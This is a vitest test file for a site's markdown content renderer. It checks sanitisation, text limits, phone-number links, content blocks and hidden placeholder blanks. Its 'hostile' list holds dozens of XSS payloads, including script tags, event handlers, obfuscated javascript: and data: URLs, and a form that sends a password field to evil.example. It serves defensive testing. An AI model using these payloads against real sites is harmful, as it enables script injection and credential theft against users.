// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { blocksOf, withBlocks, wrapBlock } from '#shared/domain/content-block.ts';
import { maxTextLength, textFault } from '#shared/domain/content-text.ts';
import { contentHtml } from '#shared/format/content-html.ts';
import { cpuTime } from '#test/support/cpu-time.ts';

// jsdom wants a canvas for pictures; by another name they are as good to look at.
const dom = (html: string) => new DOMParser().parseFromString(html.replaceAll('<img ', '<picture '), 'text/html').body;

const harmless = new Set(
  'p h1 h2 h3 h4 h5 h6 em strong a ul ol li blockquote code pre hr br picture'
    .split(' ')
    .map((tag) => tag.toUpperCase()),
);

/** Nothing that runs, loads from elsewhere by itself or leads to what runs. */
function dangersIn(html: string): string[] {
  return [...dom(html).querySelectorAll('*')].flatMap((element) => {
    const attributes = [...element.attributes].filter(
      ({ name, value }) =>
        /^on|^style$|^srcdoc$|^form/i.test(name) ||
        /^[\s\p{C}]*(javascript|data|vbscript|file|blob|ircs?|xmpp):/iu.test(value),
    );
    return [
      ...(harmless.has(element.tagName) ? [] : [element.tagName]),
      ...attributes.map(({ name, value }) => `${element.tagName} ${name}=${value}`),
    ];
  });
}

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<form action="https://evil.example/"><input name=password>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<!--><script>alert(1)</script>-->',
  '<!--/content:home-lead--><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x onclick=alert(1)>',
  '<div\n\nonclick=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](java&#x0A;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](irc://evil.example/x)',
  '[x](IRCS:x)',
  '<xmpp:a@evil.example>',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '[javascript:alert(1)]\n\n[javascript:alert(1)]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '![x" onerror="alert(1)](x.png)',
  '![x](x.png" onerror="alert(1))',
  '[x](/buy "a" onmouseover="alert(1)")',
  '[x](/buy \'a" onmouseover="alert(1)\')',
  '[a](/b"onclick="alert(1))',
  '`<script>alert(1)</script>`',
  '```html"onclick="alert(1)\n<script>alert(1)</script>\n```',
  '    <script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\<script>alert(1)</script>',
  '# <img src=x onerror=alert(1)>',
  '- <svg onload=alert(1)>',
  '> <svg onload=alert(1)>',
  '\u2028<script>alert(1)</script>',
];

describe('what administrators write', () => {
  it.each(hostile)('does nothing in the page: %j', (text) => {
    const html = contentHtml(text);
    expect(dangersIn(html)).toEqual([]);
    expect(html).not.toMatch(/<(?!\/?(p|h[1-6]|em|strong|a|ul|ol|li|blockquote|code|pre|hr|br|img)\b)/i);
  });

  it('keeps what is meant: headings, lists, emphasis, links and pictures of the site', () => {
    const html = contentHtml(
      '## Fees\n\n- **One** [percent](https://www.ncua.gov/) or [less](/sell#fees)\n- Ask [us](mailto:help@tandem.example)\n\n![A chart](/api/content/content/image/chart.png)',
    );
    expect([...dom(html).querySelectorAll('a')].map((link) => link.getAttribute('href'))).toEqual([
      'https://www.ncua.gov/',
      '/sell#fees',
      'mailto:help@tandem.example',
    ]);
    expect(dom(html).querySelector('picture')?.getAttribute('src')).toBe('/api/content/content/image/chart.png');
    expect(dom(html).querySelector('h2')?.textContent).toBe('Fees');
  });

  it('leads from a US telephone number to the telephone, and from nothing else', () => {
    const html = contentHtml(
      'Call (202) 555-0142 or [(202) 555-0143](/contact)\n\n`(202) 555-0144` 12 (202) 555-01450\n\n![(202) 555-0146](/x.png "(202) 555-0147")',
    );
    const links = [...dom(html).querySelectorAll('a')].map((link) => [link.getAttribute('href'), link.textContent]);
    expect(links).toEqual([
      ['tel:+12025550142', '(202) 555-0142'],
      ['/contact', '(202) 555-0143'],
    ]);
    expect(dom(html).querySelector('picture')?.getAttribute('alt')).toBe('(202) 555-0146');
  });

  it.each([
    ['quotes', '> a\n'.repeat(2_490)],
    ['lists in lists', Array.from({ length: 90 }, (_, depth) => `${' '.repeat(2 * depth)}- a`).join('\n')],
    ['emphasis that never ends', '*a_ '.repeat(2_490)],
    ['links that never end', '[a]('.repeat(2_490)],
    ['links to nothing', '[a][b]'.repeat(1_660)],
    ['brackets', '['.repeat(9_990)],
    ['backticks', Array.from({ length: 140 }, (_, count) => `${'`'.repeat(count)}a`).join('')],
  ])('takes no longer than a call may: five times %s', async (_what, run) => {
    const text = Array.from({ length: 5 }, () => run).join('\n\n');
    expect(textFault(text)).toBeNull();
    const { result: html, ms } = await cpuTime(() => contentHtml(text));
    expect(ms).toBeLessThan(20_000);
    expect(html.length).toBeLessThan(6 * text.length);
  });
});

describe('a text', () => {
  it.each([
    ['', 'Text is Required'],
    [' \n\t', 'Text is Required'],
    [`${'a\n\n'.repeat(16_666)}aaa`, 'A text has at most 50,000 characters'],
    ['a\0b', "The text has a character that can't be displayed"],
    [`a\n${'>'.repeat(11)} b`, 'Quotes and lists go at most 10 deep'],
    [`${'> '.repeat(11)}b`, 'Quotes and lists go at most 10 deep'],
    [`  ${'- '.repeat(11)}b`, 'Quotes and lists go at most 10 deep'],
    [`${'> 1. '.repeat(6)}b`, 'Quotes and lists go at most 10 deep'],
    ['a'.repeat(10_001), 'Leave an empty line after at most 10,000 characters'],
    [`a\n\n${'b\n'.repeat(5_001)}`, 'Leave an empty line after at most 10,000 characters'],
  ])('has a fault', (text, fault) => expect(textFault(text)).toBe(fault));

  it.each([
    'a',
    `${'>'.repeat(10)} b`,
    `a\n${'-'.repeat(60)}`,
    '*'.repeat(60),
    'a'.repeat(10_000),
    `${'b'.repeat(9_998)}\r\n \r\n`.repeat(4),
    'a\n\n'.repeat(16_666),
  ])('has none', (text) => {
    expect(text.length).toBeLessThanOrEqual(maxTextLength);
    expect(textFault(text)).toBeNull();
  });
});

describe('blocks of a page', () => {
  const page = `<main>${wrapBlock('a', '<p>1</p>')}<hr>${wrapBlock('b', '')}${wrapBlock('a', 'x')}</main>`;

  it('are found and replaced, and nothing else is', () => {
    expect(blocksOf(page)).toEqual(['a', 'b', 'a']);
    expect(withBlocks(page, (name, html) => `${name}:${html}`)).toBe(
      `<main>${wrapBlock('a', 'a:<p>1</p>')}<hr>${wrapBlock('b', 'b:')}${wrapBlock('a', 'a:x')}</main>`,
    );
    expect(withBlocks(page, (_, html) => html)).toBe(page);
  });

  it.each(['$&', "$'", '$1', '$<name>'])('take %s as it is', (text) => {
    expect(withBlocks(wrapBlock('a', ''), () => text)).toBe(wrapBlock('a', text));
  });

  it('whose marker is not closed are left alone', () => {
    const broken = '<p><!--content:a-->1</p><!--/content:b-->';
    expect(withBlocks(broken, () => 'x')).toBe(broken);
  });
});

describe('a blank of the operator', () => {
  it('hides its paragraph or list item until it is filled in', () => {
    expect(
      contentHtml('Agreed in writing.\n\nEffective `[date: to be filled in]`.\n\n- **Fee**: `[fee]`\n- Nothing'),
    ).toBe('<p>Agreed in writing.</p>\n<ul>\n<li>Nothing</li>\n</ul>');
    expect(contentHtml('- **Fee**: `0.1%`')).toContain('0.1%');
  });

  it('hides a list and a section that have nothing else', () => {
    expect(contentHtml('## Fees\n\n- `[fee]`\n\n## Liability\n\n`[Limits]`\n\n## Contact\n\nWrite to us.')).toBe(
      '<h2>Contact</h2>\n<p>Write to us.</p>',
    );
  });
});
